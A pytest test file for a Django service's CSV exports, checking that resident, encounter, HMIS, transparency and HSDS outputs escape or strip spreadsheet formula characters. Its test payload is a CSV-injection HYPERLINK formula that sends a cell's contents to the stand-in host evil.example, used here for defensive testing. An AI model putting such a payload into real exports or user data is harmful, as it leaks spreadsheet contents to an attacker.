"""No CSV the system writes carries a formula a spreadsheet would run (OWASP "CSV injection").

Each dangerous first character (= + - @ tab CR) goes through the real export path of every
CSV: the residents and encounters exports, the HUD HMIS zip, the public transparency CSV and
the HSDS datapackage. Text cells get a leading apostrophe; numbers stay numbers; HMIS keeps
HUD's spec and drops the formula characters from names instead (docs/exports.md).
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command

from acs.csv_cells import FORMULA_START, csv_cell, csv_cell_unescape
from cases.exports.services import export_run
from cases.services.transparency import transparency_refresh
from resources.hsds_import import directory_import
from resources.models import Location, Organization, Phone
from tests.cases.export_helpers import ask
from tests.cases.hmis_world import at, build_hmis, met
from tests.factories import (
    CallFactory,
    LocationFactory,
    OrganizationFactory,
    PhoneFactory,
    ResidentFactory,
)

pytestmark = pytest.mark.django_db

ABQ = ZoneInfo("America/Denver")
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def exports_dir(settings, tmp_path):
    settings.EXPORTS_ROOT = tmp_path / "exports"
    return settings.EXPORTS_ROOT


def export_rows(actor, kind, **kwargs) -> list[dict]:
    from cases.exports.models import export_storage

    job = export_run(job_id=ask(actor, kind=kind, **kwargs).pk)
    assert job.status == "done", job.error
    with export_storage().open(job.file.name, "rb") as handle:
        return list(csv.DictReader(io.StringIO(handle.read().decode("utf-8"), newline="")))


def starts_like_a_formula(rows: list[dict]) -> list[tuple[str, str]]:
    return [(k, v) for r in rows for k, v in r.items() if v[:1] in FORMULA_START]


def test_csv_cell_escapes_text_only_and_can_be_undone():
    for prefix in PREFIXES:
        assert csv_cell(prefix + PAYLOAD) == "'" + prefix + PAYLOAD
    assert csv_cell("'quoted") == "''quoted"  # so one apostrophe always comes off again
    for value in ["Ana", "", "Jean-Luc", "a=b", " =1+1", "'quoted", *(p + "x" for p in PREFIXES)]:
        assert csv_cell_unescape(csv_cell(value)) == value
    assert csv_cell_unescape("'s-Hertogenbosch") == "'s-Hertogenbosch"  # not ours: kept
    for number in (-5, -1.5, Decimal("-106.65"), 0, None, True, date(2026, 1, 1)):
        assert csv_cell(number) == number


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_resident_text_cannot_run_as_a_formula_in_the_residents_export(
    prefix, unit, responder, case_manager, exports_dir
):
    hostile = prefix + PAYLOAD
    person = ResidentFactory(
        preferred_name=hostile,
        legal_name=hostile,
        aliases=[hostile],
        gender=prefix + "SUM(A1:A9)",
        veteran_status=prefix + "1",
        where_to_find_me=hostile,
        email="ana@example.org",
    )
    met(unit, responder, [person], at("2026-02-01"))

    (row,) = export_rows(case_manager, "residents_csv", redaction="full")

    for column in ("preferred_name", "legal_name", "aliases", "where_to_find_me"):
        assert row[column] == "'" + hostile, column
    assert row["gender"] == "'" + prefix + "SUM(A1:A9)"
    assert row["veteran_status"] == "'" + prefix + "1"
    assert starts_like_a_formula([row]) == []
    # Numbers and plain text are as they were.
    assert (row["encounters_in_range"], row["merged_records"]) == ("1", "0")
    assert row["email"] == "ana@example.org"


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_encounter_text_cannot_run_as_a_formula_in_the_encounters_export(
    prefix, unit, responder, supervisor, exports_dir
):
    hostile = prefix + PAYLOAD
    call = CallFactory(address=hostile, call_type=prefix + "WELFARE", council_district="3")
    met(
        unit,
        responder,
        [ResidentFactory()],
        at("2026-02-01"),
        call=call,
        narrative=hostile,
        transport_destination=hostile,
        disposition="transported",
    )

    (row,) = export_rows(supervisor, "encounters_csv", redaction="full", include_part2=True)

    for column in ("address", "narrative", "transport_destination"):
        assert row[column] == "'" + hostile, column
    assert row["call_type"] == "'" + prefix + "WELFARE"
    assert starts_like_a_formula([row]) == []
    assert (row["police_requested"], row["anonymous_people"]) == ("0", "0")


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_hmis_files_keep_huds_spec_and_drop_formula_characters_from_names(
    prefix, unit, responder, case_manager, exports_dir
):
    person = ResidentFactory(
        legal_name=f"{prefix}Ana {prefix}{prefix}Maria {prefix}Lopez",
        gender=f"{prefix}two-spirit",
        dob_quality="unknown",
    )
    street = ResidentFactory(legal_name="", preferred_name=f"{prefix}Tiny")
    met(unit, responder, [person, street], at("2026-02-01"))

    _, rows, _ = build_hmis(case_manager)

    clients = {c["PersonalID"]: c for c in rows["Client"]}
    ana, tiny = clients[person.public_id.hex], clients[street.public_id.hex]
    assert (ana["FirstName"], ana["MiddleName"], ana["LastName"]) == ("Ana", "Maria", "Lopez")
    assert ana["NameDataQuality"] == "1"
    assert (ana["DifferentIdentity"], ana["DifferentIdentityText"]) == ("1", "two-spirit")
    assert (tiny["FirstName"], tiny["NameDataQuality"]) == ("Tiny", "2")
    # No apostrophe (HUD's importers would keep it) and no cell a spreadsheet would run.
    for name, file_rows in rows.items():
        assert starts_like_a_formula(file_rows) == [], name
        assert not any(v.startswith("'") for r in file_rows for v in r.values()), name


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"], ids=repr)
def test_a_transport_destination_cannot_run_as_a_formula_in_the_public_csv(
    prefix, client, unit, responder
):
    # (A leading tab or carriage return is tidied into a space before the figures.)
    for i in range(10):
        met(
            unit,
            responder,
            [ResidentFactory()],
            datetime(2026, 4, 1 + i, 10, tzinfo=ABQ),
            call=CallFactory(council_district="3"),
            disposition="transported",
            transport_destination=f"{prefix}cmd",
        )
    transparency_refresh(full=True)

    response = client.get("/transparency/metrics.csv", {"start": "2026-04", "end": "2026-04"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    destinations = [r for r in rows if r["metric"] == "transports_by_destination"]
    assert [(r["dimension"], r["count"]) for r in destinations] == [(f"'{prefix}Cmd", "10")]
    assert starts_like_a_formula(rows) == []


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_hsds_datapackage_escapes_text_keeps_numbers_and_imports_back(prefix, tmp_path):
    hostile = prefix + PAYLOAD
    org = OrganizationFactory(name=hostile, description=hostile)
    LocationFactory(
        organization=org, name="Depot", latitude=Decimal("35.08"), longitude=Decimal("-106.65")
    )
    PhoneFactory(organization=org, number="+1 505-768-2000")
    folder = tmp_path / "out"

    call_command("hsds_export", csv=str(folder), stderr=io.StringIO())

    def table(name: str) -> list[dict]:
        with (folder / name).open(encoding="utf-8", newline="") as f:
            return list(csv.DictReader(f))

    (organization,) = table("organizations.csv")
    assert organization["name"] == organization["description"] == "'" + hostile
    (location,) = table("locations.csv")
    assert Decimal(location["longitude"]) == Decimal("-106.65")  # a number: no apostrophe
    (phone,) = table("phones.csv")
    assert phone["number"] == "'+1 505-768-2000"
    for name in ("organizations.csv", "phones.csv"):
        assert starts_like_a_formula(table(name)) == [], name
    assert location["name"] == "Depot"

    Location.objects.all().delete()
    Organization.objects.all().delete()
    report = directory_import(folder)

    assert report.problems == []
    back = Organization.objects.get(public_id=org.public_id)
    assert (back.name, back.description) == (hostile, hostile)
    assert Phone.objects.get(organization=back).number == "+1 505-768-2000"
    assert Location.objects.get(organization=back).longitude == Decimal("-106.65")
